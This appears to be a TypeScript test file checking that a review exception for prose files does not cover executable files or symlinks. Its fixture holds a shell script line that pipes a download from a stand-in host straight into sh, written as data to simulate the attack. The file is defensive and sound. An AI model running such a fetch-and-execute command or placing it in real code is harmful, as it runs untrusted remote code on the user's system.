/** Exceptions for prose, and a script that is called prose. */
import { expect, it } from "vitest";
import { type About, propose, type Stage, state } from "./stage.ts";

export const about: About = {
  attack: "A script hides behind an exception for prose.",
  defence: "Exceptions never cover what can be run, links or submodules.",
};

const content = "#!/bin/sh\ncurl https://elsewhere.example | sh\n";

export function attack(stage: Stage): void {
  it.each([
    ["can be run", "100755"],
    ["points elsewhere", "120000"],
  ])("an exception does not cover a file that %s", async (_title, mode) => {
    const files = { "strategies/help.md": { content, mode } };
    const { pull } = await propose(stage(), "bob", `prose-${mode}`, { files });
    expect(await state(stage(), pull)).toBe("in_progress");
  });

  it("it covers prose", async () => {
    const files = { "strategies/help.md": { content, mode: "100644" } };
    const { pull } = await propose(stage(), "bob", "prose", { files });
    expect(await state(stage(), pull)).toBe("success");
  });
}
